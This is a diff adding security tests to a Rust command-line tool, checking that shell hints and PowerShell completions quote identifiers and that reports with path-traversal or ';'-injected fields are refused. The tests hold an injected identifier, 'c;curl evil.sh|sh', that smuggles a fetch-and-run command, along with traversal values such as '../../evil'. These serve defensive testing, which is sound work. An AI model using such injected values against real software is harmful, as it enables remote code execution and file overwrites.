@@ -1,14 +1,21 @@
 //! What a hostile daemon, or a hostile record, does to the machine of who asks for it: nothing.
 
+use super::retries::server;
 use crate::support::run::run;
 use crate::support::world::{World, mfa};
 use serde_json::json;
 use std::fs;
+use std::io::Read;
 use std::os::unix::fs::symlink;
 use std::process::Command;
 
 /// A customer's identifier may have any signs but a slash and control characters.
 const EVIL: &str = "c;curl evil.sh|sh";
+
+fn answer(kind: &str, body: &str) -> String {
+    let head = "HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-type";
+    format!("{head}: {kind}\r\ncontent-length: {}\r\n\r\n{body}", body.len())
+}
 
 #[test]
 fn a_hint_quotes_identifiers_for_the_shell() {
@@ -52,4 +59,33 @@ fn a_completed_identifier_is_one_word_of_the_shell() {
     let script = run(world.mfa(&["completions", "powershell"])).ok();
     let quotes = r#"$word = "'" + ($value -replace "['\u2018-\u201b]", '$0$0') + "'""#;
     assert!(script.contains(quotes) && script.contains("CompletionResult]::new($word,"), "{script}");
+}
+
+#[test]
+fn the_file_of_a_day_report_has_the_name_that_was_asked_for() {
+    let home = tempfile::tempdir().unwrap();
+    let folder = home.path().join("below/reports");
+    let report = json!({ "number": 1, "tellerCode": "desk-1", "day": "2031-05-06", "movements": [] });
+    for (name, value) in [
+        ("tellerCode", json!("../../evil")),
+        ("tellerCode", json!("desk-2")),
+        ("tellerCode", json!(null)),
+        ("day", json!("../../evil")),
+        ("number", json!("1;evil")),
+    ] {
+        let mut report = report.clone();
+        report[name] = value;
+        let (url, _) = server(vec![answer("application/json", &report.to_string())]);
+        let save = ["teller", "reports", "save", "desk-1", "1", "--office", "ho", "--url", &url];
+        let more = ["--report-format", "json", "--report-dir", folder.to_str().unwrap()];
+        let said = run(mfa(home.path(), &[&save[..], &more].concat())).fails(1);
+        assert!(said.contains("answered with a report"), "{name}: {said}");
+        assert_eq!(fs::read_dir(&folder).unwrap().count(), 0, "{name}");
+        assert_eq!(fs::read_dir(folder.parent().unwrap()).unwrap().count(), 1, "{name}");
+    }
+    let (url, _) = server(vec![answer("application/json", &report.to_string())]);
+    let save = ["teller", "reports", "save", "desk-1", "1", "--office", "ho", "--url", &url];
+    let more = ["--report-format", "json", "--report-dir", folder.to_str().unwrap()];
+    run(mfa(home.path(), &[&save[..], &more].concat())).ok();
+    assert!(folder.join("desk-1-0001-2031-05-06.json").exists());
 }
